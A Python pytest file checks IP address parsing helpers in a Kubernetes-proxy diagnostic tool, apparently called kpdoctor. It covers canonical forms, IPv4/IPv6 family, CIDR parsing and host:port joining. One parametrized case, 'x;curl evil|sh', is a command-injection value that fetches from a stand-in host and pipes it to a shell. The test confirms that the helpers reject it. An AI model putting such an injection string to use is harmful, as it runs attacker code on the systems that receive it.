"""kpdoctor.addresses: the one set of IP address helpers (proxier, dataplane, node collectors, gate)."""

from __future__ import annotations

import pytest

from kpdoctor.addresses import IPV4, IPV6, canonical_ip, cidr_family, ip_family, is_ip, join_host_port


@pytest.mark.parametrize(("text", "canonical", "family"), [
    ("10.96.0.1", "10.96.0.1", IPV4),
    ("2001:DB8::0:1", "2001:db8::1", IPV6),  # as Go's net.IP.String() prints it
    (" 10.0.0.1 ", "10.0.0.1", IPV4),  # padding from a pasted dump is tolerated here, not by is_ip
    ("010.0.0.1", None, None),  # leading zeros: neither Go nor ipaddress accept them
    ("10.0.0.256", None, None),
    ("x;curl evil|sh", None, None),  # hostile node/API value
    ("", None, None),
])
def test_canonical_and_family(text: str, canonical: str | None, family: str | None) -> None:
    assert canonical_ip(text) == canonical
    assert ip_family(text) == family


def test_is_ip_is_strict() -> None:
    assert is_ip("192.168.0.1") and is_ip("fe80::1")
    assert not is_ip(" 192.168.0.1") and not is_ip("[::1]") and not is_ip("node-1") and not is_ip("")


@pytest.mark.parametrize(("cidr", "family"), [
    ("10.96.0.0/12", IPV4), ("fd00::/108", IPV6), ("10.96.0.1/12", IPV4), ("10.96.0.0/33", None), ("all", None),
])
def test_cidr_family(cidr: str, family: str | None) -> None:
    assert cidr_family(cidr) == family


def test_old_homes_use_the_leaf() -> None:
    """The helpers that used to be repeated are this module's (one definition)."""
    from kpdoctor.dataplane import ipvs
    from kpdoctor.node import collectors, hostaddr
    from kpdoctor.proxier import serviceport

    assert serviceport.ip_family is ip_family and ipvs.canonical_ip is canonical_ip
    assert ipvs.join_host_port is join_host_port
    assert hostaddr.is_ip is is_ip and collectors.is_ip is is_ip


def test_join_host_port_brackets_ipv6() -> None:
    assert join_host_port("10.0.0.1", 80) == "10.0.0.1:80"
    assert join_host_port("fd00::1", 443) == "[fd00::1]:443"
